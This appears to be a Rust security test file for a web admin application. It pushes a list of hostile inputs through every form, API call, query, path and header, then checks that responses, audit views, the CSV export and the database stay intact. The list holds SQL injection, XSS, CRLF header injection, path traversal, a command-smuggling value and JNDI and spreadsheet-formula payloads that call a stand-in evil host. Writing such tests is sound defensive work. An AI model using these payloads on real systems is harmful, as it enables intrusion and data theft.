//! Hostile words through every field of every page, form, call and header: nothing breaks, nothing is taken for markup,
//! SQL or a header, and the file is whole afterwards.

use std::collections::BTreeSet;

use axum::http::HeaderValue;
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};

use super::*;
use crate::{
    audit::verify,
    auth::{IdentityProviders, Peer},
    web::{account::page::tests as account, middleware::authorize::tests::heads},
};

/// What somebody writes who wants more than a field.
const EVIL: [&str; 14] = [
    "x'); DROP TABLE users; --",
    "' OR '1'='1",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "x\r\nSet-Cookie: evil=1",
    "%0d%0aSet-Cookie:%20evil=1",
    "\u{1b}[31m\u{7}\0",
    "\u{202e}nimda\u{200b}",
    "=HYPERLINK(\"http://evil.example\")",
    "../../../etc/passwd",
    "s1; show env",
    "{\"$gt\":\"\"}",
    "${jndi:ldap://evil.example}{{7*7}}",
];

type Fields = &'static [(&'static str, &'static str)];

/// Forms, each field with a value that is well.
const FORMS: &[(&str, Fields)] = &[
    (
        "POST /stats",
        &[
            ("do", "apply"),
            ("action", "drain"),
            ("s", "lb1/be_http/s1"),
            ("typed", "x"),
            ("reason", "a"),
            ("confirmed", ""),
        ],
    ),
    ("POST /login", &[("user", "viewer"), ("password", "wrong"), ("next", "/stats")]),
    ("POST /logout", &[("everywhere", "false")]),
    ("POST /account/password", &[("current", "wrong"), ("new", "a long password"), ("again", "a long password")]),
    ("POST /account/sessions/end", &[("id", "0")]),
    ("POST /account/tokens/add", &[("note", "x"), ("scope", "read"), ("expires", "1d"), ("own_password", "x")]),
    ("POST /account/tokens/end", &[("id", "0")]),
    (
        "POST /admin/users/add",
        &[("user", "temporary"), ("role", "viewer"), ("groups", "ops"), ("password", "a long password"), OWN_PASSWORD],
    ),
    ("POST /admin/users/role", &[("user", "operator"), ("role", "operator")]),
    ("POST /admin/users/groups", &[("user", "operator"), ("groups", "ops"), OWN_PASSWORD]),
    ("POST /admin/users/remove", &[("user", "nobody")]),
    ("POST /admin/sessions/end", &[("id", "0")]),
    ("POST /admin/sessions/end-all", &[("user", "nobody")]),
    ("POST /admin/tokens/end", &[("id", "0")]),
    ("POST /admin/walls/add", &[("name", "noc"), ("cluster", "edge"), ("expires", "1d"), OWN_PASSWORD]),
    ("POST /admin/walls/end", &[("id", "0")]),
];

/// What the admin's forms ask for before they make something that outlasts the session.
const OWN_PASSWORD: (&str, &str) = ("own_password", "correct horse battery");

/// Calls whose body is JSON, every text in it a field.
const CALLS: &[(&str, &str)] = &[
    (
        "POST /api/v1/actions",
        r#"{"action":"drain","targets":[{"node":"lb1","cluster":null,"backend":"be_http","server":"s1"}],"reason":"x"}"#,
    ),
    ("POST /api/v1/login", r#"{"user":"viewer","password":"wrong"}"#),
    ("POST /api/v1/tokens", r#"{"scope":"read","expires":"1d","note":"x","password":"x"}"#),
];

const AUDIT: &[&str] =
    &["from", "to", "who", "kind", "action", "operation", "target", "address", "outcome", "before", "limit", "format"];

/// What an address can say.
const QUERIES: &[(&str, &[&str])] = &[
    ("GET /stats", &["q", "show", "node", "cols"]),
    ("GET /events", &["q", "kind", "node", "cluster", "proxy", "server"]),
    ("GET /login", &["next"]),
    ("GET /login/oidc", &["next"]),
    ("GET /login/oidc/callback", &["state", "code", "error", "iss"]),
    ("GET /account", &["done"]),
    ("GET /admin", &["done"]),
    ("GET /audit", AUDIT),
    ("GET /api/v1/audit", AUDIT),
    ("GET /api/v1/stats", &["node", "proxy"]),
    ("GET /api/v1/info", &["node"]),
    ("GET /api/v1/events", &["node", "cluster", "proxy", "server", "kind", "since", "limit"]),
    ("GET /api/v1/sessions", &["user"]),
    ("GET /api/v1/tokens", &["user"]),
    ("DELETE /api/v1/sessions", &["id"]),
    ("DELETE /api/v1/tokens", &["id"]),
    ("POST /api/v1/logout", &["everywhere"]),
    ("GET /ws", &["format"]),
];

/// Paths with a part of their own.
const PATHS: &[&str] = &["GET /w/{token}", "GET /pkg/{*path}"];

/// Routes that nothing but their address reaches.
const BARE: &[&str] = &[
    "GET /",
    "GET /wall",
    "GET /api/v1/me",
    "GET /api/v1/nodes",
    "GET /api/v1/openapi.json",
    "GET /healthz",
    "GET /metrics",
];

/// Headers that somebody's word is read from.
const HEADERS: &[&str] = &[
    "user-agent",
    "cookie",
    "authorization",
    "accept",
    "accept-language",
    "x-forwarded-for",
    "x-forwarded-user",
    "referer",
];

fn escaped(text: &str) -> String {
    utf8_percent_encode(text, NON_ALPHANUMERIC).to_string()
}

/// The document with each of its texts in turn exchanged.
fn exchanged(document: &Value, evil: &str) -> Vec<String> {
    fn texts(value: &mut Value, then: &mut dyn FnMut(&mut Value)) {
        match value {
            Value::String(_) | Value::Null => then(value),
            Value::Array(items) => items.iter_mut().for_each(|item| texts(item, then)),
            Value::Object(fields) => fields.values_mut().for_each(|field| texts(field, then)),
            Value::Bool(_) | Value::Number(_) => {}
        }
    }
    let mut count = 0;
    texts(&mut document.clone(), &mut |_| count += 1);
    let with = |place: usize| {
        let (mut out, mut at) = (document.clone(), 0);
        texts(&mut out, &mut |text| {
            if at == place {
                *text = evil.into();
            }
            at += 1;
        });
        out.to_string()
    };
    (0..count).map(with).collect()
}

/// Every request with one field of it exchanged: its head and its body.
fn requests(evil: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for (head, fields) in FORMS {
        for place in 0..fields.len() {
            let pair = |(at, (name, good)): (usize, &(&str, &str))| {
                format!("{name}={}", escaped(if at == place { evil } else { good }))
            };
            out.push(((*head).to_owned(), fields.iter().enumerate().map(pair).collect::<Vec<_>>().join("&")));
        }
    }
    for (head, body) in CALLS {
        let document = serde_json::from_str(body).expect("JSON");
        out.extend(exchanged(&document, evil).into_iter().map(|body| ((*head).to_owned(), body)));
    }
    for (head, names) in QUERIES {
        out.extend(names.iter().map(|name| (format!("{head}?{name}={}", escaped(evil)), String::new())));
    }
    out.extend(PATHS.iter().map(|head| {
        let open = head.find('{').expect("a part of its own");
        (format!("{}{}", &head[..open], escaped(evil)), String::new())
    }));
    out
}

fn assert_harmless(got: &account::Got, what: &str) {
    assert!(got.status < 500, "{what}: {} {}", got.status, got.body);
    for (name, value) in &got.headers {
        let value = String::from_utf8_lossy(value.as_bytes()).into_owned();
        assert!(!value.contains("evil=1") || name == "location", "{what}: {name}: {value}");
        assert!(name != "location" || value.starts_with('/') && !value.starts_with("//"), "{what}: {value}");
    }
    let kind = got.headers.get(CONTENT_TYPE).and_then(|kind| kind.to_str().ok()).unwrap_or_default();
    if kind.starts_with("text/html") {
        for markup in ["<script>alert", "<img src=x", "<svg/onload"] {
            assert!(!got.body.contains(markup), "{what}: {}", got.body);
        }
    }
}

#[test]
fn no_route_is_left_out() {
    let mut all: BTreeSet<String> = PATHS.iter().chain(BARE).map(|head| (*head).to_owned()).collect();
    all.extend(FORMS.iter().map(|(head, _)| (*head).to_owned()));
    all.extend(CALLS.iter().map(|(head, _)| (*head).to_owned()));
    all.extend(QUERIES.iter().map(|(head, _)| (*head).to_owned()));
    assert_eq!(all, heads());
}

#[tokio::test]
async fn hostile_words_in_any_field_harm_nobody() {
    let state = account::state(IdentityProviders::default()).await;
    // Wrong passwords from there delay no log-in from here.
    let elsewhere = Peer { address: "192.0.2.1".parse().expect("an address"), ..Peer::LOOPBACK };
    let mut admin = account::logged_in(&state, "admin").await;
    for evil in EVIL {
        for (head, body) in requests(evil) {
            // Some of them end the session that they come with.
            if account::ask(&state, "GET /api/v1/me", "", &[("cookie", &admin)]).await.status == 401 {
                admin = account::logged_in(&state, "admin").await;
            }
            let got = account::ask_from(&state, &head, &body, &[("cookie", &admin)], elsewhere).await;
            assert_harmless(&got, &format!("{head} {body}"));
        }
        for name in HEADERS.iter().filter(|_| HeaderValue::from_bytes(evil.as_bytes()).is_ok()) {
            for head in ["GET /stats", "GET /account", "POST /login", "GET /api/v1/me"] {
                let got =
                    account::ask_from(&state, head, "user=viewer&password=wrong", &[(name, evil)], elsewhere).await;
                assert_harmless(&got, &format!("{head} {name}: {evil}"));
            }
        }
    }
    // What they left behind is shown as text, by whatever shows it.
    let admin = account::logged_in(&state, "admin").await;
    for head in ["GET /admin", "GET /account", "GET /audit", "GET /audit?kind=refusal", "GET /audit?kind=account"] {
        let got = account::ask(&state, head, "", &[("cookie", &admin)]).await;
        assert_harmless(&got, head);
        // Nor does it move the cursor of whoever reads it on a terminal.
        assert!(got.status == 200 && !got.body.contains(['\u{1b}', '\u{7}', '\0', '\u{202e}']), "{head}");
    }
    let export = account::ask(&state, "GET /api/v1/audit?format=csv", "", &[("cookie", &admin)]).await.body;
    assert!(
        !export.contains(['\u{1b}', '\u{202e}', '\0'])
            && !export.contains(",=HYPERLINK")
            && !export.contains(",\"=HYPER")
    );
    let whole = state.database.run(|c| {
        let users: Vec<String> = c
            .prepare("SELECT name || ' ' || role FROM users ORDER BY name")?
            .query_map([], |row| row.get(0))?
            .collect::<Result<_, _>>()?;
        Ok((users, c.query_row("PRAGMA integrity_check", [], |row| row.get::<_, String>(0))?, verify(c, None).is_ok()))
    });
    let (users, integrity, is_whole) = whole.await.expect("answered");
    assert_eq!(users, ["admin admin", "operator operator", "temporary viewer", "viewer viewer"]);
    assert!(integrity == "ok" && is_whole);
}
